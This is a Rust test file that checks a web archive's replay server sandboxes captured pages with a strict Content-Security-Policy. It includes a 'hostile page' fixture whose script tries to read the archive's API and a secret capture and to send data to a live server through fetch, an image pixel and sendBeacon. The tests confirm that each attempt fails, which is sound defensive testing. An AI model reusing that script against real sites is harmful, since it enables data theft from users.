//! A replayed page cannot read the archive or reach the live web (issue #15): captures carry a
//! sandboxing, archive-only Content-Security-Policy and `nosniff`; the server's own pages and the
//! API a strict policy of their own; links to what the archive lacks lead to its "not archived"
//! page. In headless Chromium, a hostile archived page renders while every attempt to read
//! `/api/links`, another capture or a live server fails, and the live server sees nothing.

use wiremock::matchers::path;
use wiremock::{Mock, MockServer, ResponseTemplate};

use crate::support::archive::Scratch;
use crate::support::browser::{chromium_or_skip, dump_dom};
use crate::support::counting::Counting;
use crate::support::serve::{HOST, PNG, ServeProcess, Site, get, router, timestamp};
use crate::support::write_file;

/// The policy of the server's own pages, the API and the TimeMaps, exactly.
const OWN_POLICY: &str =
    "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'";

/// Asserts `policy` is the capture policy for requests to `host`: sandboxed without
/// `allow-same-origin`, loads only from the archive, no connections.
fn assert_capture_policy(policy: &str, host: &str) {
    let archive = format!("{host}/web/");
    let directives: Vec<&str> = policy.split(';').map(str::trim).collect();
    let sandbox = directives
        .iter()
        .find(|d| d.starts_with("sandbox"))
        .unwrap_or_else(|| panic!("no sandbox: {policy}"));
    assert!(sandbox.contains("allow-scripts"), "{policy}");
    assert!(!sandbox.contains("allow-same-origin"), "{policy}");
    assert!(!sandbox.contains("allow-top-navigation"), "{policy}");
    assert!(directives.contains(&"default-src 'none'"), "{policy}");
    assert!(directives.contains(&"connect-src 'none'"), "{policy}");
    for directive in [
        "script-src",
        "style-src",
        "img-src",
        "font-src",
        "media-src",
        "frame-src",
        "form-action",
    ] {
        let sources = directives
            .iter()
            .find_map(|d| d.strip_prefix(directive))
            .unwrap_or_else(|| panic!("no {directive}: {policy}"));
        for source in sources.split_whitespace() {
            assert!(
                source == archive || matches!(source, "'unsafe-inline'" | "'unsafe-eval'" | "data:" | "blob:"),
                "{directive} allows {source}: {policy}"
            );
        }
        assert!(sources.contains(&archive), "{directive} lacks the archive: {policy}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn captures_are_sandboxed_and_confined_to_the_archive() {
    let site = Site::archived().await;
    let router = router(&site.scratch);
    let ts_a = timestamp(&site.scratch, "a", 0);
    let ts_pdf = timestamp(&site.scratch, "pdf", 0);
    for target in [
        format!("/web/{ts_a}/{}", site.url("/a.html")),
        format!("/web/{ts_a}id_/{}", site.url("/a.html")),
        format!("/web/{ts_pdf}/{}", site.url("/doc.pdf")),
        format!("/web/{ts_pdf}id_/{}", site.url("/doc.pdf")),
    ] {
        let reply = get(&router, &target, &[]).await;
        assert_eq!(reply.status, 200, "{target}");
        assert_capture_policy(reply.header("content-security-policy"), HOST);
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{target}");
        assert_eq!(reply.header("referrer-policy"), "no-referrer", "{target}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_servers_own_pages_and_api_get_a_strict_policy() {
    let site = Site::archived().await;
    let router = router(&site.scratch);
    let a_url = site.url("/a.html");
    for (target, status) in [
        ("/".to_owned(), 200),
        ("/api/links".to_owned(), 200),
        (format!("/timemap/link/{a_url}"), 200),
        (format!("/web/{a_url}"), 302),
        (format!("/web/20200101000000/{}", site.url("/unarchived.html")), 404),
        ("/nothing/here".to_owned(), 404),
    ] {
        let reply = get(&router, &target, &[]).await;
        assert_eq!(reply.status, status, "{target}");
        assert_eq!(reply.header("content-security-policy"), OWN_POLICY, "{target}");
        assert_eq!(reply.header("x-content-type-options"), "nosniff", "{target}");
    }
}

/// A capture requested by an IPv6 literal (which a CSP source cannot name) is confined to the
/// server's origin instead, still sandboxed.
#[tokio::test(flavor = "multi_thread")]
async fn a_host_csp_cannot_name_falls_back_to_self() {
    let site = Site::archived().await;
    let ts = timestamp(&site.scratch, "a", 0);
    let target = format!("/web/{ts}id_/{}", site.url("/a.html"));
    let request = axum::http::Request::get(&target)
        .header("host", "[::1]:8080")
        .body(axum::body::Body::empty())
        .unwrap();
    let response = tower::ServiceExt::oneshot(router(&site.scratch), request)
        .await
        .unwrap();
    let policy = response.headers()["content-security-policy"].to_str().unwrap();
    assert!(
        policy.starts_with("sandbox ") && !policy.contains("allow-same-origin"),
        "{policy}"
    );
    assert!(policy.contains("script-src 'self' "), "{policy}");
    assert!(!policy.contains("[::1]"), "{policy}");
}

/// Following a replayed page's link to a URL the archive lacks ends on the "not archived" page,
/// which shows the URL without linking to it.
#[tokio::test(flavor = "multi_thread")]
async fn an_unarchived_link_leads_to_the_not_archived_page() {
    let site = Site::archived().await;
    let router = router(&site.scratch);
    let ts = timestamp(&site.scratch, "a", 0);
    let page = get(&router, &format!("/web/{ts}/{}", site.url("/a.html")), &[])
        .await
        .text();
    let marker = "id=\"elsewhere\" href=\"";
    let start = page.find(marker).unwrap_or_else(|| panic!("{page}")) + marker.len();
    let href = &page[start..start + page[start..].find('"').unwrap()];
    assert!(href.starts_with("/web/"), "{href}");
    let reply = get(&router, href, &[]).await;
    assert_eq!(reply.status, 404, "{href}: {}", reply.text());
    let text = reply.text();
    assert!(text.contains("Not in the archive"), "{text}");
    assert!(text.contains(&site.url("/unarchived.html")), "{text}");
    assert!(!text.contains(&format!("href=\"{}", site.base)), "{text}");
}

/// An archived page that tries to read the archive and reach the live web, with an archived
/// script and image of its own.
fn hostile_page(site: &str, live: &str) -> String {
    format!(
        r#"<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Hostile page</title><script src="app.js"></script></head>
<body><h1>The archived text renders</h1>
<img src="pic.png" onload="note('archived image loaded')" onerror="note('archived image failed')">
<img src="{live}/static.png">
<ul id="results"></ul>
<script>
function note(text) {{
  const item = document.createElement('li');
  item.textContent = text;
  document.getElementById('results').appendChild(item);
}}
note('origin: ' + self.origin);
const ts = location.pathname.split('/')[2];
const tries = [
  ['api', '/api/links'],
  ['capture', '/web/' + ts + '/{site}/secret.html'],
  ['raw capture', '/web/' + ts + 'id_/{site}/secret.html'],
  ['live', '{live}/steal?what=links'],
];
new Image().src = '{live}/pixel';
navigator.sendBeacon && navigator.sendBeacon('{live}/beacon', 'data');
Promise.allSettled(tries.map(([name, url]) =>
  fetch(url).then(r => r.text()).then(
    body => note(name + ': read ' + body.length + ' bytes'),
    error => note(name + ': failed'))))
  .then(() => note('all attempts settled'));
</script></body></html>
"#
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn in_chromium_a_replayed_page_renders_but_reads_nothing_and_reaches_nothing_live() {
    let Some(chromium) = chromium_or_skip() else {
        return;
    };
    let live = Counting::start().await;
    let site = MockServer::start().await;
    let base = site.uri();
    let text =
        |body: String, content_type: &str| ResponseTemplate::new(200).set_body_raw(body.into_bytes(), content_type);
    let app = "document.addEventListener('DOMContentLoaded', () => note('archived script ran'));".to_owned();
    for (at, response) in [
        (
            "/hostile.html",
            text(hostile_page(&base, &live.base), "text/html; charset=utf-8"),
        ),
        (
            "/secret.html",
            text("<title>Secret</title><p>SECRET-CAPTURE-TEXT</p>".into(), "text/html"),
        ),
        ("/app.js", text(app, "application/javascript")),
        (
            "/pic.png",
            ResponseTemplate::new(200).set_body_raw(PNG.to_vec(), "image/png"),
        ),
    ] {
        Mock::given(path(at)).respond_with(response).mount(&site).await;
    }
    let scratch = Scratch::new(&[]);
    let links = serde_json::json!({"version": 1, "links": [
        {"id": "hostile", "url": format!("{base}/hostile.html")},
        {"id": "secret", "url": format!("{base}/secret.html")},
        {"id": "app", "url": format!("{base}/app.js")},
        {"id": "pic", "url": format!("{base}/pic.png")},
    ]});
    write_file(scratch.dir.path(), "links.json", &links.to_string());
    let run = scratch.archive(&["--retries", "0"]).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    let archived_requests = site.received_requests().await.unwrap().len();
    // The page's requisites were fetched when it was archived (issue #20), live ones included;
    // what counts is that the replay reaches nothing.
    let live_archived = live.total();

    let server = ServeProcess::start(&scratch);
    let ts = timestamp(&scratch, "hostile", 0);
    let url = server.url(&format!("/web/{ts}/{base}/hostile.html"));
    // Virtual time lets every attempt settle before the DOM is taken.
    let dom = tokio::task::spawn_blocking(move || dump_dom(&chromium, &url, &["--virtual-time-budget=10000"]))
        .await
        .unwrap();

    // The page renders, its archived script and image load from the archive...
    for shown in [
        "The archived text renders",
        "archived script ran",
        "archived image loaded",
        "origin: null",
        "all attempts settled",
    ] {
        assert!(dom.contains(shown), "{shown:?} missing:\n{dom}");
    }
    // ... but it reads nothing of the archive and reaches nothing live.
    for failed in ["api: failed", "capture: failed", "raw capture: failed", "live: failed"] {
        assert!(dom.contains(failed), "{failed:?} missing:\n{dom}");
    }
    let results = &dom[dom.find("<ul id=\"results\">").unwrap()..];
    let results = &results[..results.find("</ul>").unwrap()];
    assert!(!results.contains(": read "), "an attempt succeeded: {results}");
    assert!(!dom.contains("SECRET-CAPTURE-TEXT"), "{dom}");
    assert_eq!(live.total(), live_archived, "the live server was reached");
    assert_eq!(
        site.received_requests().await.unwrap().len(),
        archived_requests,
        "the archived site was reached from the replay"
    );
    drop(server);
}
